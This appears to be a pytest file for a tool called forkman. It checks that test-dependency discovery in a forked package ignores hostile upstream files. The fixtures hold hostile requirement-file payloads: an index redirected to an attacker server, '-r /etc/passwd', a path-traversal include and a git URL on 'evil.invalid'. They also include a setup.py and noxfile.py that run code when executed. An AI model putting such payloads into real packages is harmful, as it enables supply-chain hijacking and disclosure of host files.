"""A fork's tree names its own test dependencies: it must not reach the installer's options.

Who writes the files discovery reads: the fork's upstream (any release forkman
forks). What a hostile one gains if forkman believes them: an installer
pointed at its own index (``--index-url`` in a requirements file), packages
from its own URLs, files of the host read as requirement files (``-r
/etc/passwd``), or code run at discovery (a ``setup.py`` or ``noxfile.py``
executed to learn its metadata).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from packaging.requirements import Requirement

from tests.support.cli import run
from tests.support.index import LocalIndex


@pytest.fixture
def evil_index(tmp_path: Path) -> Iterator[LocalIndex]:
    index = LocalIndex(tmp_path / "evil").start()
    try:
        yield index
    finally:
        index.stop()


def pip_download(
    args: Sequence[str], dest: Path, index_url: str
) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    env["PIP_CONFIG_FILE"] = os.devnull
    cmd = [sys.executable, "-m", "pip", "--disable-pip-version-check", "--no-input", "download"]
    cmd += ["--no-deps", "--dest", str(dest), "--index-url", index_url, "--timeout", "5", *args]
    return subprocess.run(cmd, capture_output=True, text=True, env=env, check=False, timeout=120)


def test_hostile_test_dependency_declarations(
    cwd: Path, tmp_path: Path, local_index: LocalIndex, evil_index: LocalIndex
) -> None:
    setup_ran = tmp_path / "setup-py-ran"
    nox_ran = tmp_path / "noxfile-ran"
    for name in ("helper", "helper3", "helper4"):
        local_index.add_wheel(name, "1.0")
    evil_index.add_wheel("helper", "6.6.6")
    (cwd / "outside.txt").write_text("stolen-from-the-project\n")
    files = {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
        'build-backend = "setuptools.build_meta"\n',
        "setup.py": (
            f"import pathlib\npathlib.Path({str(setup_ran)!r}).write_text('ran')\n"
            "from setuptools import setup\n"
            "setup(name='victim', version='1.0', install_requires=['helper3'])\n"
        ),
        "noxfile.py": (
            f"import pathlib\npathlib.Path({str(nox_ran)!r}).write_text('ran')\n"
            "import nox\n\n@nox.session\ndef tests(session):\n    session.install('helper4')\n"
        ),
        "tests/requirements.txt": (
            f"--index-url {evil_index.url}\n--extra-index-url {evil_index.url}\n"
            "--trusted-host 127.0.0.1\n--no-binary :all:\nhelper\n"
        ),
        "requirements/test.txt": (
            "-r /etc/passwd\n-r ../../../outside.txt\n-e git+https://evil.invalid/x.git#egg=x\n"
            f"helper2 @ {evil_index.base}/files/helper2-1.0.tar.gz\n"
        ),
        "src/victim/__init__.py": "",
        "tests/test_victim.py": "def test_ok():\n    pass\n",
    }
    local_index.add_sdist("victim", "1.0", files)
    assert run("init").exit_code == 0
    assert run("fork", "victim==1.0").exit_code == 0
    tree = cwd / "vendor" / "victim"
    assert not setup_ran.exists() and not nox_ran.exists()

    # the payloads are live: running setup.py, as a metadata build would, runs them
    scratch = tmp_path / "scratch"
    shutil.copytree(tree, scratch)
    subprocess.run([sys.executable, "setup.py", "--name"], cwd=scratch, capture_output=True)
    assert setup_ran.exists()
    setup_ran.unlink()
    # and the file's options are live: pip given the file uses the upstream's index
    naive = pip_download(
        ["-r", str(tree / "tests" / "requirements.txt")], tmp_path / "naive", local_index.url
    )
    assert evil_index.requests, naive.stderr
    evil_index.requests.clear()

    res = run("test", "victim", "--explain", "--format", "json")
    assert res.exit_code == 0, res
    [report] = json.loads(res.stdout)
    found = [f["requirement"] for f in report["found"]]
    assert found == ["helper", "helper4", "helper3"]
    for text in found:
        req = Requirement(text)
        assert req.url is None and req.marker is None and not text.startswith("-")
    assert not setup_ran.exists() and not nox_ran.exists()  # nothing of the fork ran
    assert "root:" not in res.stdout and "stolen-from-the-project" not in res.stdout
    assert evil_index.requests == []
    notes = "\n".join(report["notes"])
    assert "option --index-url ignored" in notes and "option --extra-index-url ignored" in notes
    assert "'/etc/passwd' lies outside the fork's tree; refused" in notes
    assert "'../../../outside.txt' lies outside the fork's tree; refused" in notes
    assert "helper2" in notes and "direct URL reference" in notes

    # what discovery hands on installs from the configured index only
    fetched = pip_download(found, tmp_path / "fetched", local_index.url)
    assert fetched.returncode == 0, fetched.stderr
    assert sorted(p.name for p in (tmp_path / "fetched").iterdir()) == [
        "helper-1.0-py3-none-any.whl",
        "helper3-1.0-py3-none-any.whl",
        "helper4-1.0-py3-none-any.whl",
    ]
    assert evil_index.requests == []
